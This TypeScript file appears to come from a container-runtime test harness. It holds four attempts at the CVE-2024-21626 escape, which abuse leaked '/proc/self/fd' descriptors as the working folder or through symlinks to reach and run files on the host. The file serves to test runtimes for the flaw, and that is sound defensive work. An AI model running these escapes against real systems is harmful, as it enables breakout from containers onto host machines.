import type { Attempt } from './attack.ts';
import type { Box } from '../conformance/suite/box.ts';
import type { Ran } from '../harness/command.ts';
import { copyFileSync, symlinkSync } from 'node:fs';
import path from 'node:path';

const numbers = Array.from({ length: 14 }, (_, at) => at + 3);
/** What shows that somebody stands in a folder of the host. */
const words = ['cwd', 'list ../../../../../../../..', 'links /proc/self'];

function loot({ code, stdout }: Ran, where: string): string | undefined {
  if (code !== 0 || !stdout.startsWith('{')) return undefined;
  const seen = JSON.parse(stdout) as Record<string, unknown>;
  const names = seen[words[1]!];
  const isOutside = Array.isArray(names) && (names.includes('home') || names.includes('boot') || names.includes('opt'));
  return isOutside ? `${where}: ${names.join(' ')}` : undefined;
}

async function each(
  box: Box,
  use: (box: Box, number: number) => Promise<string | undefined>,
): Promise<string | undefined> {
  for (const number of numbers) {
    const found = await use(box, number);
    if (found !== undefined) return found;
  }
  return undefined;
}

/** CVE-2024-21626: a descriptor of the runtime that leads to a folder of the host. */
export const descriptorAttempts: readonly Attempt[] = [
  {
    name: 'the working folder is a descriptor of the runtime',
    run: async (runtime, armoury) => {
      await using box = armoury.box(runtime);
      return await each(box, async (_, number) => {
        box.spec.process.cwd = `/proc/self/fd/${number}`;
        box.spec.process.args = ['/probe', ...words];
        return loot(await box.run(), box.spec.process.cwd);
      });
    },
  },
  {
    name: 'the working folder is a link of the image to a descriptor of the runtime',
    run: async (runtime, armoury) => {
      await using box = armoury.box(runtime);
      for (const number of numbers) symlinkSync(`/proc/self/fd/${number}`, path.join(box.rootfs, `out${number}`));
      return await each(box, async (_, number) => {
        box.spec.process.cwd = `/out${number}/.`;
        box.spec.process.args = ['/probe', ...words];
        return loot(await box.run(), box.spec.process.cwd);
      });
    },
  },
  {
    name: 'exec --cwd is a descriptor of the runtime',
    run: async (runtime, armoury) => {
      await using box = armoury.box(runtime);
      await box.start();
      return await each(box, async (_, number) => {
        const cwd = `/proc/self/fd/${number}`;
        return loot(await box.exec(['/probe', ...words], { flags: ['--cwd', cwd] }), cwd);
      });
    },
  },
  {
    name: 'the program is one of the host, through a descriptor of the runtime',
    run: async (runtime, armoury) => {
      await using box = armoury.box(runtime);
      // Only the host has this one; it needs no libraries.
      copyFileSync(path.join(box.rootfs, 'probe'), path.join(box.folder, 'outside'));
      await box.start();
      return await each(box, async (_, number) => {
        const program = `/proc/self/fd/${number}/../../../../../../../..${box.folder}/outside`;
        return (await box.exec([program, 'ids'])).code === 0 ? program : undefined;
      });
    },
  },
];
